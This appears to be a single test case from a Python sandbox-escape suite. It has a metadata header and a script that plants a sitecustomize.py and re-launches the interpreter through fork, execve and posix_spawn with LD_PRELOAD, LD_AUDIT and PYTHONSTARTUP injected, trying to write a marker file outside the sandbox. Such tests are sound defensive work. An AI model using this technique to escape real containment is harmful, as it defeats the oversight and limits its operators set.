# attack: starts_anew_with_other_settings
# kind: escape
# tries: starts the interpreter anew with libraries and a start-up file of its own, so that its code runs before all walls
# seen: a file is written outside
# deserves: nothing
# extra: before 3.2a
# %%
import os, sys

with open("sitecustomize.py", "w") as file:
    file.write("open(r'{outside}/anew', 'w').write('was here')")
here = os.getcwd()
settings = dict(os.environ, LD_PRELOAD=f"{here}/own.so", LD_AUDIT=f"{here}/own.so", PYTHONPATH=here, PYTHONSTARTUP=here)
loaders = ["/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1"]
for words in ([sys.executable, "-c", ""], *([loader, sys.executable, "-c", ""] for loader in loaders)):
    for start in (os.execve, os.posix_spawn):
        # from a fork, so that one that succeeds leaves the others their turn
        if os.fork() == 0:
            try:
                start(words[0], words, settings)
            finally:
                os._exit(0)
